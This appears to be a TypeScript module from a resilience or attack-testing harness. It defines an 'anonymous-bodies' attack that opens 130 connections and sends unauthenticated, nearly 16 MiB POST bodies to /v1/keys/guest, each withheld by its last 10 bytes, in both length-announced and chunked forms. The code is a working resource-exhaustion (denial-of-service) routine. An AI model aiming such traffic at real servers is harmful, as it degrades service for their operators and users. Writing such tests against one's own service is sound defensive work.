import type { Attack } from '../attack.ts';
import { repeat } from '../attacker/repeat.ts';
import { post, sendBytes } from '../attacker/send-bytes.ts';
import { bodyBytesMax } from '../hostile-json.ts';

const withheldBytes = 10;
const path = '/v1/keys/guest';
const withLength = post({ path, body: Buffer.alloc(bodyBytesMax, ' ') });
/** The same body without an announced length. */
const inChunks = Buffer.concat([
  Buffer.from(
    `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
  ),
  Buffer.from(`${bodyBytesMax.toString(16)}\r\n`),
  Buffer.alloc(bodyBytesMax, ' '),
  Buffer.from('\r\n0\r\n\r\n'),
]);

export const anonymousBodies: Attack = {
  id: '1',
  name: 'anonymous-bodies',
  does: 'bodies of 16 MiB without their last bytes, without a credential, with and without a length, on 130 connections; at most 100 MiB a second',
  run: (attacker) =>
    repeat(attacker, { clients: 130, perSecond: 6 }, (_, index) =>
      sendBytes(attacker, (index % 2 === 0 ? withLength : inChunks).subarray(0, -withheldBytes)),
    ),
};
